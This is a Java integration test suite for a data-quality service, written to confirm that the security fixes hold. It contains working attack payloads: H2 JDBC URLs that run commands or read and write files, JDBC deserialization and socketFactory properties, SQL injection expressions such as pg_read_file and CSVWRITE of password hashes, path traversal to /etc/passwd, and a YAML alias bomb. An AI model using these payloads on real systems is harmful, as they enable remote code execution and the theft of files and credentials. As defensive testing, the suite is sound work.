package vn.steerboard.quality;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import vn.steerboard.quality.internal.UnitFolders;
import vn.steerboard.support.Api;
import vn.steerboard.support.IntegrationTest;
import vn.steerboard.support.TestDatabase;
import vn.steerboard.support.TestFixtures;
import vn.steerboard.support.DemoFacts;

/**
 * Every payload class of the security review of database-quality scans, replayed over real HTTP: each is refused
 * with a 400 naming the problem, no marker file appears, and no answer carries a file's content or a hash.
 * The causes are closed, not the payloads: only four network drivers behind an ADMIN's host list, URLs parsed
 * and rebuilt, expressions parsed and rewritten, files only in the unit's own folder.
 */
@IntegrationTest
class SecurityRegressionTest {

    private static final String SUITE = "table: person\nchecks:\n  - type: completeness\n    column: cccd\n";

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    UnitFolders folders;

    private Path marker;
    private final List<String> answers = new ArrayList<>();

    /** The commune this test writes on, and its officer (made for it): the attacker of every case. */
    private String unit;
    private String attacker;

    @BeforeEach
    void marker() throws Exception {
        unit = TestFixtures.unit("00070", "SecurityRegressionTest"); // Phường Hoàn Kiếm, Hà Nội
        attacker = TestFixtures.account(port, "fx.hoankiem.officer", "OFFICER", unit);
        marker = Files.createTempDirectory("steerboard-sec").resolve("marker-" + UUID.randomUUID());
    }

    /** After every case: nothing was written where a payload pointed, and no answer leaked a file or a hash. */
    @AfterEach
    void nothingLeaked() throws Exception {
        assertThat(marker).doesNotExist();
        assertThat(Files.exists(Path.of("pwned"))).isFalse();
        String admin = jdbc.sql("SELECT password_hash FROM app_user WHERE username = 'admin'").query(String.class).single();
        for (String answer : answers) {
            assertThat(answer).doesNotContain("root:x:0:0").doesNotContain("/bin/bash").doesNotContain("$argon2")
                    .doesNotContain(admin).doesNotContain("sbt_").doesNotContain("cd1@example.vn")
                    .doesNotContain("id,cccd,full_name");
        }
        Files.deleteIfExists(marker);
        Files.deleteIfExists(marker.getParent());
    }

    private Api.Reply record(Api.Reply reply) {
        answers.add(reply.body());
        return reply;
    }

    private Map<String, Object> draft(String unit, String kind, String location) {
        Map<String, Object> draft = new HashMap<>();
        draft.put("ownerUnit", unit);
        draft.put("name", "Tấn công " + UUID.randomUUID());
        draft.put("kind", kind);
        draft.put("location", location);
        draft.put("username", "sa");
        draft.put("password", "");
        draft.put("suiteYaml", SUITE);
        return draft;
    }

    private Api.Reply register(String user, String unit, String kind, String location) {
        return record(Api.as(port, user).post("/api/quality/sources", draft(unit, kind, location)));
    }

    private void refused(Api.Reply reply, String... named) {
        assertThat(reply.status()).as(reply.toString()).isEqualTo(400);
        assertThat(reply.contentType()).contains("problem+json");
        assertThat(reply.json().get("detail").asString()).contains(named);
    }

    private long sourceCount() {
        return jdbc.sql("SELECT COUNT(*) FROM quality_source").query(Long.class).single();
    }

    @Test
    void h2UrlsAreRefusedWhateverTheyCarry() {
        String m = marker.toString().replace("\\", "/");
        long before = sourceCount();
        for (String url : List.of(
                // 1. command execution through an alias created at connection time
                "jdbc:h2:mem:x;INIT=CREATE ALIAS EXEC AS 'String e(String c) throws Exception { new ProcessBuilder(\"touch\", \""
                        + m + "\").start().waitFor(); return c; }'\\;CALL EXEC('x')",
                // 2. any file read, its content echoed in the error
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '/etc/passwd'",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'data/secret.key'",
                // 3. any file written
                "jdbc:h2:mem:x;INIT=CALL FILE_WRITE(STRINGTOUTF8('pwned'), '" + m + "')",
                // 4. the live application database
                "jdbc:h2:file:./data/steerboard;MODE=PostgreSQL;AUTO_SERVER=TRUE",
                "jdbc:h2:" + Path.of("data/steerboard").toAbsolutePath(),
                // 5. h2-tcp as a port scanner that echoes the reply's first bytes
                "jdbc:h2:tcp://127.0.0.1:22/x", "jdbc:h2:ssl://localhost:8080/x",
                // the other embedded engines on the class path
                "jdbc:duckdb:", "jdbc:duckdb:/etc/passwd", "jdbc:sqlite:/tmp/x.db", "jdbc:derby:memory:x;create=true",
                "jdbc:hsqldb:mem:x", "JDBC:H2:mem:x", " jdbc:h2:mem:x")) {
            refused(register(attacker, unit, "JDBC", url),
                    "only to PostgreSQL, MySQL/MariaDB, SQL Server or Oracle");
        }
        assertThat(sourceCount()).isEqualTo(before);
        assertThat(jdbc.sql("SELECT COUNT(*) FROM audit_record WHERE action = 'REFUSED_LOCATION' AND unit_code = ?")
                .param(unit).query(Long.class).single()).isGreaterThanOrEqualTo(15);
    }

    @Test
    void anH2SourceStoredBeforeTheFixIsNeverConnectedTo() throws Exception {
        String m = marker.toString().replace("\\", "/");
        org.springframework.jdbc.support.GeneratedKeyHolder keys = new org.springframework.jdbc.support.GeneratedKeyHolder();
        jdbc.sql("INSERT INTO quality_source (owner_unit, name, kind, location, username, suite_yaml, daily,"
                        + " created_by, created_at) VALUES (?, ?, 'JDBC', ?, 'sa', ?, FALSE, 'legacy', ?)")
                .params(unit, "legacy " + UUID.randomUUID(), "jdbc:h2:mem:legacy;INIT=CALL FILE_WRITE(STRINGTOUTF8('x'), '" + m + "')",
                        SUITE, OffsetDateTime.now())
                .update(keys, "id");
        long id = keys.getKey().longValue();
        Api officer = Api.as(port, attacker);
        long scanId = record(officer.post("/api/quality/sources/" + id + "/scans", Map.of())).json().get("id").asLong();
        JsonNode scan = waitForScan(officer, scanId);
        answers.add(scan.toString());
        assertThat(scan.get("status").asString()).isEqualTo("FAILED");
        assertThat(scan.get("error").asString()).contains("Not allowed", "PostgreSQL, MySQL/MariaDB, SQL Server or Oracle");
    }

    @Test
    void onlyListedHostsPortsAndPropertiesAreAccepted() throws Exception {
        Api officer = Api.as(port, attacker);
        refused(register(attacker, unit, "JDBC", "jdbc:postgresql://db.dancu.invalid:5432/dancu"),
                "host 'db.dancu.invalid' port 5432 is not on the list of hosts an ADMIN allowed");
        refused(register(attacker, unit, "JDBC", "jdbc:postgresql://127.0.0.1:5432/steerboard"), "not on the list");
        refused(register(attacker, unit, "JDBC", "jdbc:mysql://10.1.2.3:3306/hotich"), "not on the list");
        refused(register(attacker, unit, "JDBC", "jdbc:sqlserver://10.1.2.3:1433;databaseName=x"), "not on the list");
        refused(register(attacker, unit, "JDBC", "jdbc:oracle:thin:@//10.1.2.3:1521/ORCL"), "not on the list");
        long entry = allow("db.dancu.invalid", 5432, null);
        try {
            // the port is part of the entry
            refused(register(attacker, unit, "JDBC", "jdbc:postgresql://db.dancu.invalid:5433/dancu"),
                    "port 5433 is not on the list");
            // properties outside each driver's list are refused by name, before any connection
            refused(register(attacker, unit, "JDBC", "jdbc:postgresql://db.dancu.invalid:5432/dancu?socketFactory="
                    + "org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://x/y.xml"),
                    "property 'socketFactory' is not allowed");
            refused(register(attacker, unit, "JDBC", "jdbc:postgresql://db.dancu.invalid:5432/dancu?loggerFile="
                    + marker), "property 'loggerFile' is not allowed");
            refused(register(attacker, unit, "JDBC", "jdbc:postgresql://db.dancu.invalid:5432/dancu?sslfactory=x"),
                    "property 'sslfactory' is not allowed");
            refused(register(attacker, unit, "JDBC", "jdbc:postgresql://db.dancu.invalid:5432/dancu?sslmode=disable"
                    + "&authenticationPluginClassName=x"), "property 'authenticationPluginClassName' is not allowed");
            refused(register(attacker, unit, "JDBC", "jdbc:mysql://db.dancu.invalid:3306/x?autoDeserialize=true"),
                    "property 'autoDeserialize' is not allowed");
            refused(register(attacker, unit, "JDBC", "jdbc:mysql://db.dancu.invalid:3306/x?allowLoadLocalInfile=true"),
                    "property 'allowLoadLocalInfile' is not allowed");
            refused(register(attacker, unit, "JDBC", "jdbc:sqlserver://db.dancu.invalid:1433;databaseName=x;"
                    + "integratedSecurity=true"), "property 'integratedSecurity' is not allowed");
            // credentials never in the URL (they would be shown to every reader)
            Api.Reply password = register(attacker, unit, "JDBC", "jdbc:postgresql://db.dancu.invalid:5432/dancu"
                    + "?password=Hunter2Secret");
            refused(password, "property 'password' is not allowed", "username and password fields");
            assertThat(password.body()).doesNotContain("Hunter2Secret");
            // shapes no plain URL has: several hosts, instance names, TNS descriptors, encoded or odd characters
            for (String url : List.of("jdbc:postgresql://db.dancu.invalid:5432,evil.invalid:5432/dancu",
                    "jdbc:postgresql://db.dancu.invalid:5432/dan%63u", "jdbc:postgresql:dancu",
                    "jdbc:postgresql://db.dancu.invalid:5432/dancu?options=-c%20statement_timeout=0",
                    "jdbc:sqlserver://db.dancu.invalid\\\\inst;databaseName=x",
                    "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=db.dancu.invalid)(PORT=1521)))",
                    "jdbc:mysql:loadbalance://db.dancu.invalid:3306/x", "jdbc:mysql://address=(host=db.dancu.invalid)/x",
                    "jdbc:postgresql://db.dancu.invalid:5432/dancu?sslmode=disable\nINIT=x")) {
                assertThat(register(attacker, unit, "JDBC", url).status()).as(url).isEqualTo(400);
            }
            // the listed host itself is accepted
            Api.Reply ok = register(attacker, unit, "JDBC", "jdbc:postgresql://db.dancu.invalid:5432/dancu?sslmode=require");
            assertThat(ok.status()).as(ok.toString()).isEqualTo(201);
        } finally {
            unallow(entry);
        }
        // ADMIN alone manages the list, and every change is audited
        assertThat(record(officer.post("/api/admin/quality/hosts", Map.of("host", "evil.invalid", "port", 5432))).status())
                .isEqualTo(403);
        assertThat(record(officer.get("/api/admin/quality/hosts")).status()).isEqualTo(403);
        assertThat(jdbc.sql("SELECT COUNT(*) FROM audit_record WHERE entity_type = 'quality-allowed-host' AND action IN"
                + " ('CREATE', 'DELETE', 'ACCESS_DENIED')").query(Long.class).single()).isGreaterThanOrEqualTo(4);
        assertThat(record(Api.as(port, DemoFacts.ADMIN).post("/api/admin/quality/hosts", Map.of("host", "*.gov.vn", "port", 5432)))
                .status()).isEqualTo(400);
    }

    @Test
    void theApplicationsOwnDatabaseAndLoopbackNeedAnEntryNamingThem() {
        if (TestDatabase.onPostgres()) {
            URI own = URI.create(TestDatabase.pgUrl().substring("jdbc:".length()));
            String database = own.getPath().substring(1);
            long entry = allow(own.getHost(), own.getPort(), null);
            try {
                refused(register(attacker, unit, "JDBC", "jdbc:postgresql://" + own.getHost() + ":" + own.getPort()
                        + "/" + database), "the application's own database");
            } finally {
                unallow(entry);
            }
        }
        long entry = allow("127.0.0.1", 5432, null);
        try {
            refused(register(attacker, unit, "JDBC", "jdbc:postgresql://127.0.0.2:5432/x"), "not on the list");
            assertThat(register(attacker, unit, "JDBC", "jdbc:postgresql://127.0.0.1:5432/other").status())
                    .isEqualTo(201);
        } finally {
            unallow(entry);
        }
    }

    @Test
    void expressionEscapesAreRefusedAtSaveTimeWithTheirPosition() {
        Api officer = Api.as(port, attacker);
        long id = register(attacker, unit, "UPLOAD", null).json().get("id").asLong();
        String m = marker.toString().replace("\\", "/");
        Map<String, String> payloads = new java.util.LinkedHashMap<>();
        // H2
        payloads.put("CSVWRITE('" + m + "', 'SELECT username, password_hash FROM app_user') IS NULL",
                "position 1: function 'CSVWRITE' is not allowed");
        payloads.put("LENGTH(FILE_READ('/etc/passwd')) > 0", "position 8: function 'FILE_READ' is not allowed");
        payloads.put("cccd = (TABLE api_token LIMIT 1)", "position 9: sub-queries are not allowed ('TABLE')");
        payloads.put("cccd IN (SELECT token_hash FROM api_token)", "position 10: sub-queries are not allowed ('SELECT')");
        payloads.put("cccd = 'x' OR LINK_SCHEMA('a', '', 'jdbc:h2:tcp://x', 'sa', '', 'PUBLIC') IS NULL",
                "position 15: function 'LINK_SCHEMA' is not allowed");
        // DuckDB
        payloads.put("cccd = (FROM read_csv('/etc/passwd') LIMIT 1)", "position 9: sub-queries are not allowed ('FROM')");
        payloads.put("cccd IN (VALUES ('x'))", "position 10: sub-queries are not allowed ('VALUES')");
        payloads.put("cccd = (WITH x AS (SELECT 1) SELECT * FROM x)", "position 9: sub-queries are not allowed ('WITH')");
        payloads.put("read_text('/etc/passwd') IS NOT NULL", "position 1: function 'read_text' is not allowed");
        // PostgreSQL
        payloads.put("LENGTH(pg_read_file('/etc/passwd')) > 0", "position 8: function 'pg_read_file' is not allowed");
        payloads.put("cccd = 'a' OR lo_export(1, '" + m + "') = 1", "position 15: function 'lo_export' is not allowed");
        payloads.put("1 = 1; COPY app_user TO '" + m + "'", "position 6: ';' is not allowed");
        payloads.put("1 = 1 -- ", "position 7: comments are not allowed");
        payloads.put("cccd = $$x$$", "position 8: character '$' is not allowed");
        payloads.put("cccd = 'SELECT 1'", "SQL ('SELECT') is not allowed inside a text literal");
        for (Map.Entry<String, String> payload : payloads.entrySet()) {
            String yaml = "table: person\nchecks:\n  - type: expression\n    expression: \"" + payload.getKey().replace("\"", "\\\"")
                    + "\"\n";
            Api.Reply reply = record(putSuite(officer, id, yaml));
            refused(reply, payload.getValue(), "line 4");
            Map<String, Object> draft = draft(unit, "UPLOAD", null);
            draft.put("suiteYaml", yaml);
            refused(record(officer.post("/api/quality/sources", draft)), payload.getValue());
        }
        // values that fail a conversion are never echoed: the error is the SQLSTATE's class, not the driver's text
        assertThat(vn.steerboard.quality.engine.SqlErrors.describe(new java.sql.SQLException(
                "invalid input syntax for type integer: \"001095012345\"", "22P02"))).doesNotContain("001095012345")
                .contains("could not be converted");
    }

    @Test
    void aYamlAliasBombIsABadSuite() {
        Api officer = Api.as(port, attacker);
        long id = register(attacker, unit, "UPLOAD", null).json().get("id").asLong();
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            bomb.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                bomb.append(i == 0 ? "" : ",").append('*').append((char) (c - 1));
            }
            bomb.append("]\n");
        }
        bomb.append("table: person\nchecks: *j\n");
        refused(record(putSuite(officer, id, bomb.toString())), "aliases");
        refused(record(putSuite(officer, id, "table: person\nchecks:\n" + "  - ".repeat(1) + "[".repeat(200) + "\n")), "suite");
    }

    @Test
    void fileSourcesReadOnlyTheirUnitsFolderAndMissingLooksLikeForbidden() throws Exception {
        Path own = folders.unitFolder(unit);
        Path other = folders.unitFolder("48");
        Files.writeString(other.resolve("secret-" + UUID.randomUUID() + ".csv"), "id,cccd\n1,001095012345\n");
        Path foreign = Files.list(other).filter(p -> p.toString().endsWith(".csv")).findFirst().orElseThrow();
        Path linkToForeign = own.resolve("link-" + UUID.randomUUID() + ".csv");
        Path linkToPasswd = own.resolve("passwd-" + UUID.randomUUID() + ".csv");
        Files.createSymbolicLink(linkToForeign, foreign);
        Files.createSymbolicLink(linkToPasswd, Path.of("/etc/passwd"));
        try {
            List<String> why = new ArrayList<>();
            for (String location : List.of("missing-" + UUID.randomUUID() + ".csv", "../48/" + foreign.getFileName(),
                    "./../../quality-files/48/" + foreign.getFileName(), foreign.toString(), "/etc/passwd",
                    "../../../../../../etc/passwd", linkToForeign.getFileName().toString(),
                    linkToPasswd.getFileName().toString(), "sub/../../48/" + foreign.getFileName(), "..", ".")) {
                Api.Reply reply = register(attacker, unit, "FILE", location);
                refused(reply, "no readable .csv or .parquet file of that name in the unit's folder");
                String detail = reply.json().get("detail").asString();
                why.add(detail.substring(detail.indexOf("': ") + 3));
            }
            assertThat(why).as("the same answer for missing and not allowed").containsOnly(why.get(0));

            // a file of its own folder is accepted and scanned; swapped for a link afterwards, the scan fails the same way
            Path mine = own.resolve("mine-" + UUID.randomUUID() + ".csv");
            Files.writeString(mine, "cccd\n001095012345\n\n");
            Api officer = Api.as(port, attacker);
            Api.Reply created = register(attacker, unit, "FILE", mine.getFileName().toString());
            assertThat(created.status()).as(created.toString()).isEqualTo(201);
            long id = created.json().get("id").asLong();
            JsonNode first = waitForScan(officer, record(officer.post("/api/quality/sources/" + id + "/scans", Map.of()))
                    .json().get("id").asLong());
            assertThat(first.get("status").asString()).as(first.toString()).isEqualTo("SUCCEEDED");
            Files.delete(mine);
            Files.createSymbolicLink(mine, Path.of("/etc/passwd"));
            JsonNode second = waitForScan(officer, record(officer.post("/api/quality/sources/" + id + "/scans", Map.of()))
                    .json().get("id").asLong());
            answers.add(second.toString());
            assertThat(second.get("status").asString()).isEqualTo("FAILED");
            assertThat(second.get("error").asString()).contains("no readable .csv or .parquet file of that name");
            Files.delete(mine);

            // uploads land in the caller's unit folder only, under a plain name
            Api.Reply upload = record(putFile(attacker, unit, "up-" + UUID.randomUUID() + ".csv", "cccd\n1\n"));
            assertThat(upload.status()).as(upload.toString()).isEqualTo(201);
            Files.delete(own.resolve(upload.json().get("location").asString()));
            assertThat(record(putFile(attacker, "48", "x.csv", "cccd\n1\n")).status()).isEqualTo(403);
            assertThat(record(putFile(attacker, unit, "..%2F48%2Fx.csv", "a\n")).status()).isIn(400, 404);
            refused(record(putFile(attacker, unit, "x.sh", "a\n")), "a plain .csv or .parquet file name");
            refused(record(putFile(attacker, unit, ".hidden.csv", "a\n")), "a plain .csv or .parquet file name");
            // an empty body (what a form-encoded upload leaves) is not stored as an empty extract
            String empty = "empty-" + UUID.randomUUID() + ".csv";
            refused(record(send(attacker, "/api/quality/units/" + unit + "/files/" + empty, "application/x-www-form-urlencoded",
                    "cccd\n1\n")), "the file is empty");
            assertThat(own.resolve(empty)).doesNotExist();
            assertThat(other.resolve("x.csv")).doesNotExist();
        } finally {
            Files.deleteIfExists(linkToForeign);
            Files.deleteIfExists(linkToPasswd);
        }
    }

    private long allow(String host, int port, String database) {
        Map<String, Object> entry = new HashMap<>();
        entry.put("host", host);
        entry.put("port", port);
        entry.put("database", database);
        Api.Reply added = Api.as(this.port, DemoFacts.ADMIN).post("/api/admin/quality/hosts", entry);
        assertThat(added.status()).as(added.toString()).isEqualTo(201);
        return added.json().get("id").asLong();
    }

    private void unallow(long id) {
        assertThat(Api.as(port, DemoFacts.ADMIN).delete("/api/admin/quality/hosts/" + id).status()).isEqualTo(204);
    }

    private Api.Reply putSuite(Api ignored, long id, String yaml) {
        return send(attacker, "/api/quality/sources/" + id + "/suite", "application/yaml", yaml);
    }

    private Api.Reply putFile(String user, String unit, String name, String content) {
        return send(user, "/api/quality/units/" + unit + "/files/" + name, "application/octet-stream", content);
    }

    private Api.Reply send(String user, String path, String type, String body) {
        try {
            var request = java.net.http.HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
                    .header("Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString(
                            (user + ":" + Api.DEMO_PASSWORD).getBytes()))
                    .header("Accept", "application/json, application/problem+json")
                    .header("Content-Type", type).PUT(java.net.http.HttpRequest.BodyPublishers.ofString(body)).build();
            var response = java.net.http.HttpClient.newHttpClient().send(request,
                    java.net.http.HttpResponse.BodyHandlers.ofString());
            return new Api.Reply(response.statusCode(), response.body(),
                    response.headers().firstValue("Content-Type").orElse(""));
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private JsonNode waitForScan(Api api, long scanId) throws InterruptedException {
        for (int i = 0; i < 300; i++) {
            JsonNode scan = api.get("/api/quality/scans/" + scanId).json();
            if (!"RUNNING".equals(scan.get("status").asString())) {
                return scan;
            }
            Thread.sleep(100);
        }
        throw new AssertionError("scan " + scanId + " did not finish");
    }
}
